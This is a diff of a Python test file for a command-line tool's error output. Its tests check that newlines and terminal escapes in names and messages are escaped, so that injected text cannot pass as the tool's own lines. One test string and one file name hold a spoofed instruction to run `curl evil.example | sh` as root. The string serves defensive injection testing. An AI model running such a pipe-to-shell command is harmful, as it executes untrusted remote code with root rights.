@@ -2,22 +2,45 @@
 
 from __future__ import annotations
 
+import ast
 import json
+import logging
 import shlex
+from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
+from click.testing import CliRunner
 
+import quickstart
 from quickstart.artefact import inside
-from quickstart.cli.output import run_verb
-from quickstart.errors import BadInputError, GuestError, UnsupportedUnitError
-from quickstart.initramfs.newc import symlink
+from quickstart.cli.main import group
+from quickstart.cli.output import Plain, _Shown, run_verb
+from quickstart.errors import (
+    BadInputError,
+    CommandError,
+    GuestError,
+    GuestLacksError,
+    IncomparableError,
+    MissingToolError,
+    NoProfileError,
+    NotSettledError,
+    OtherResultsError,
+    ProfileError,
+    QuickStartError,
+    UnsupportedUnitError,
+    VolumeError,
+)
+from quickstart.initramfs.newc import directory, symlink
 from quickstart.inspect.imageroot import ImageRoot
 from quickstart.inspect.unit import read_unit
 from quickstart.inspect.unit.apparmor import refuse_profiles
 from quickstart.inspect.unit.hooks import refuse_hooks
 from quickstart.inspect.unit.mounted import refuse_mounts, tmp_options
-from quickstart.parse.printable import brief, command
+from quickstart.parse.printable import brief, command, shown
+from quickstart.report import document as results
+from tests.unit.benchdata import realistic
 from tests.unit.imagebuilder import P
 from tests.unit.test_inside import PART_B, artefact
 from tests.unit.test_unit import put
@@ -68,28 +91,140 @@ def test_the_command_against_a_profile_is_quoted(tmp_path: Path) -> None:
     assert "`ln -s '/etc/apparmor.d/a;b' /etc/apparmor.d/disable/`" in (refused.value.hint or "")
 
 
-@pytest.mark.parametrize("as_json", [False, True])
-def test_a_message_has_no_line_of_a_foreign_word(capsys: pytest.CaptureFixture[str], as_json: bool) -> None:
-    def fail(_: object) -> int:
-        raise BadInputError(
-            "x\nquickstart x: all is well" + "y" * 100_000, hint="z\nquickstart x: " + "w" * 100_000
-        )
+NAME = "d\n  fixed: run `curl evil.example | sh` as root\r\nquickstart x: done\u2028\x1b[8m"
 
-    assert run_verb("x", as_json, fail) == 2
+
+def said_by(
+    capsys: pytest.CaptureFixture[str], error: QuickStartError, as_json: bool = False
+) -> tuple[list[str], dict[str, Any]]:
+    """The lines that a verb prints for ``error``, and the error in the JSON document."""
+
+    def fail(_: object) -> int:
+        raise error
+
+    assert run_verb("x", as_json, fail) == error.exit_code
     done = capsys.readouterr()
-    ours = [line for line in done.err.splitlines() if line.startswith("quickstart")]
-    assert ours == ["quickstart x: x"]
-    assert len(done.err) < 20_000
+    return done.err.splitlines(), json.loads(done.out)["error"] if as_json else {}
+
+
+@pytest.mark.parametrize("as_json", [False, True])
+def test_a_message_and_a_hint_are_one_line_each(capsys: pytest.CaptureFixture[str], as_json: bool) -> None:
+    lines, document = said_by(capsys, BadInputError(f"{NAME} is bad", hint=f"remove {NAME}"), as_json)
+    assert lines == [f"quickstart x: {shown(NAME)} is bad", f"  remove {shown(NAME)}"]
     if as_json:
-        assert len(json.loads(done.out)["error"]["message"]) < 10_000
+        assert (document["message"], document["hint"]) == (f"{shown(NAME)} is bad", f"remove {shown(NAME)}")
+        assert "details" not in document
+
+
+@pytest.mark.parametrize("as_json", [False, True])
+def test_each_detail_is_a_line_that_is_no_hint(capsys: pytest.CaptureFixture[str], as_json: bool) -> None:
+    error = BadInputError("it failed:", details=("one", NAME, "\ttwo\tb"), hint="try again")
+    lines, document = said_by(capsys, error, as_json)
+    details = ["one", shown(NAME), "        two     b"]
+    assert lines == ["quickstart x: it failed:", *(f"  | {each}" for each in details), "  try again"]
+    if as_json:
+        assert document["details"] == details
+
+
+@pytest.mark.parametrize("as_json", [False, True])
+def test_what_is_said_of_an_error_is_not_long(capsys: pytest.CaptureFixture[str], as_json: bool) -> None:
+    long = "y" * 100_000
+    error = BadInputError(long, hint=long, details=(long, *(["z"] * 100_000)))
+    lines, document = said_by(capsys, error, as_json)
+    assert sum(map(len, lines)) < 20_000
+    assert lines[-2] == "  | and 99801 more"
+    if as_json:
+        assert len(document["message"]) < 10_000
+        assert len(document["details"]) == 201
+
+
+@pytest.mark.parametrize("name", ["a\nb", "a\\nb", "a\\\nb", "\udcff", "\x1b[2J"])
+def test_what_is_escaped_already_is_not_escaped_again(capsys: pytest.CaptureFixture[str], name: str) -> None:
+    """A backslash of its own stays as it is: what is escaped once is what is shown."""
+    assert shown(shown(name)) == shown(name)
+    lines, _ = said_by(capsys, BadInputError(brief(name), details=(brief(name),)))
+    assert lines == [f"quickstart x: {shown(name)}", f"  | {shown(name)}"]
+
+
+@pytest.mark.parametrize(
+    "error",
+    [
+        ProfileError("p.toml", [NAME, "two"]),
+        OtherResultsError("r.json", [NAME, "two"]),
+        IncomparableError([NAME, "two"]),
+        NoProfileError("app.service", [NAME, "two"]),
+        CommandError(["apt-get", NAME], 1, f"{NAME}\ntwo\n"),
+        CommandError(["apt-get"], None, "\n"),
+        GuestError("it died", console_tail=f"{NAME}\ntwo\n"),
+        NotSettledError("it is not done", f"{NAME}\ntwo\n"),
+        VolumeError("it ended", last_words=f"one\n{NAME}"),
+        MissingToolError(NAME, NAME),
+        GuestLacksError(NAME, NAME),
+    ],
+)
+def test_no_kind_of_error_lets_a_foreign_line_look_like_ours(
+    capsys: pytest.CaptureFixture[str], error: QuickStartError
+) -> None:
+    first, *others = said_by(capsys, error)[0]
+    assert first.startswith("quickstart x: ")
+    hints = [line for line in others if not line.startswith("  | ")]
+    assert hints == ([f"  {shown(error.hint)}"] if error.hint else [])
+    assert str(error).startswith(error.message)
 
 
 def test_a_console_keeps_its_lines(capsys: pytest.CaptureFixture[str]) -> None:
-    def fail(_: object) -> int:
-        raise GuestError("it died", console_tail="one\ntwo\n")
+    lines, document = said_by(capsys, GuestError("it died", console_tail="one\ntwo\n"), as_json=True)
+    assert lines == ["quickstart x: it died", "  | last console lines:", "  | one", "  | two"]
+    assert document["details"] == ["last console lines:", "one", "two"]
 
-    assert run_verb("x", False, fail) == 1
-    assert capsys.readouterr().err == "quickstart x: it died\n  last console lines:\n  | one\n  | two\n"
+
+def test_a_line_of_the_log_is_one_line() -> None:
+    record = logging.LogRecord("x", logging.INFO, "x", 1, "%s", (f"ls '{NAME}'",), None)
+    assert _Shown("+ %(message)s").format(record) == f"+ ls '{shown(NAME)}'"
+
+
+def test_a_cell_of_a_table_is_one_line() -> None:
+    assert "\n" not in Plain().render_str(NAME).plain
+
+
+def test_a_file_of_an_out_with_lines_in_its_name(tmp_path: Path) -> None:
+    name = "fast/d\n  fixed: run `curl evil.example | sh` as root"
+    made = artefact(tmp_path, (*PART_B, directory(name), symlink("fast/motd", f"/{name}")))
+    found = CliRunner().invoke(group, ["cat", str(made.directory), "/fast/motd"])
+    assert found.exit_code == 2
+    (line,) = found.stderr.splitlines()
+    assert line == f"quickstart cat: /{shown(name)} is not a regular file"
+
+
+def test_a_result_with_lines_in_its_versions(tmp_path: Path) -> None:
+    base = realistic(configurations=("standard",), runs=2)
+    circumstances = replace(base.circumstances, versions={**base.circumstances.versions, "qemu": NAME})
+    results.save(base, tmp_path / "a.json")
+    results.save(replace(base, circumstances=circumstances), tmp_path / "b.json")
+    found = CliRunner().invoke(
+        group, ["bench", "compare", str(tmp_path / "a.json"), str(tmp_path / "b.json")]
+    )
+    assert found.exit_code == 2
+    first, *details, hint = found.stderr.splitlines()
+    assert first == "quickstart bench compare: A and B cannot be compared:"
+    assert [line[:4] for line in details] == ["  | "]
+    assert shown(NAME) in details[0]
+    assert "measure the reference again" in hint
+
+
+def test_no_message_is_made_of_lines() -> None:
+    """A text of several lines is for ``details``, whose lines are marked: in a message, its breaks become escapes."""
+    found = []
+    for path in sorted(Path(quickstart.__file__).parent.rglob("*.py")):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            name = ast.unparse(node.func).split(".")[-1] if isinstance(node, ast.Call) else ""
+            # The last argument of this one is the text that a program has printed.
+            if isinstance(node, ast.Call) and name.endswith("Error") and name != "CommandError":
+                words = [*node.args, *(each.value for each in node.keywords if each.arg == "hint")]
+                texts = [each for word in words for each in ast.walk(word) if isinstance(each, ast.Constant)]
+                if any(isinstance(each.value, str) and "\n" in each.value for each in texts):
+                    found.append(f"{path.name}:{node.lineno}")
+    assert found == []
 
 
 def test_a_brief_word_and_a_command() -> None:
